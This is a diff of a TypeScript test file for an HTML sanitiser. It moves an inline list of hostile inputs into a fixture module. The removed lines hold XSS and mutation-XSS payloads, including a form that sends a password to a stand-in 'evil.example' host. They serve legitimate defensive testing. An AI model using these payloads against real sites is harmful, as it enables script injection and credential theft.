@@ -2,36 +2,10 @@ import fc from 'fast-check';
 import type { Element, RootContent } from 'hast';
 import { fromHtml } from 'hast-util-from-html';
 import { describe, expect, it } from 'vitest';
+import { hostileHtml, htmlPieces } from '#fixtures/builders/hostile-html.ts';
 import { validateBlock } from '../validate/ajv-validator.ts';
 import { htmlLimits } from './html-limits.ts';
 import { sanitizeBelow, sanitizeHtml } from './safe-html.ts';
-
-/** Ways in which sanitisers were led astray; each tries to get a script, a handler or a foreign address through. */
-const hostile = [
-  '<script>alert(1)</script>',
-  '<img src=x onerror=alert(1)>',
-  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
-  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
-  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
-  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  '<template><script>alert(1)</script></template>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="javascript:alert(1)"></object>',
-  '<a href="java\tscript:alert(1)">a</a><a href=" javascript:alert(1)">b</a><a href="JaVaScRiPt:alert(1)">c</a>',
-  '<a href="data:text/html,<script>alert(1)</script>">x</a><a href="vbscript:x">y</a>',
-  '<img src="data:image/svg+xml,<svg onload=alert(1)>"><img srcset="javascript:alert(1) 1x">',
-  '<form action="//evil.example"><input name=password><button formaction=javascript:alert(1)>Go</button></form>',
-  '<p style="background:url(javascript:alert(1))" class="modal" id="login" name="cookie">x</p>',
-  '<base href="//evil.example"><meta http-equiv=refresh content="0;url=//evil.example"><link rel=stylesheet href=//e>',
-  '<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>',
-  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
-  '<!--><img src=x onerror=alert(1)>--><![CDATA[<img src=x onerror=alert(1)>]]>',
-  '<b><p title="</b><img src=x onerror=alert(1)>">x</b>',
-  '<table><a><tr><td></a><img src=x onerror=alert(1)>',
-  '<select><template><img src=x onerror=alert(1)></template></select><keygen autofocus onfocus=alert(1)>',
-  'a\0<scr\0ipt>alert(1)</scr\0ipt>',
-];
 
 const forbidden =
   /^(script|style|svg|math|iframe|object|embed|form|input|button|template|base|meta|link|select|textarea)$/;
@@ -68,50 +42,16 @@ describe('sanitizeHtml', () => {
     expect(sanitizeHtml(html)).toBe(html);
   });
 
-  it.each(hostile)('disarms %j', (html) => {
+  it.each(hostileHtml)('disarms %j', (html) => {
     const clean = sanitizeHtml(html);
     expectSafe(clean);
     expect(sanitizeHtml(clean)).toBe(clean);
   });
 
   it('changes nothing that is clean already, however the pieces fall', () => {
-    const tags = [
-      'p',
-      'a href=/x',
-      'b',
-      'table',
-      'tr',
-      'td',
-      'li',
-      'ul',
-      'svg',
-      'math',
-      'style',
-      'h1',
-      'form',
-      'select',
-      'noscript',
-      'pre',
-    ];
-    const piece = fc.oneof(
-      fc.constantFrom(...tags.map((tag) => `<${tag}>`), ...tags.map((tag) => `</${tag.split(' ')[0]}>`)),
-      fc.constantFrom(
-        '<!--',
-        '-->',
-        '<![CDATA[',
-        '&lt;img src=x onerror=alert(1)&gt;',
-        '"',
-        "'",
-        '<img title="',
-        '\n',
-        ' x ',
-      ),
-      fc.constantFrom(...hostile),
-      fc.string({ maxLength: 8 }),
-    );
     fc.assert(
-      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
-        const clean = sanitizeHtml(pieces.join(''));
+      fc.property(htmlPieces, (html) => {
+        const clean = sanitizeHtml(html);
         expectSafe(clean);
         expect(sanitizeHtml(clean)).toBe(clean);
       }),
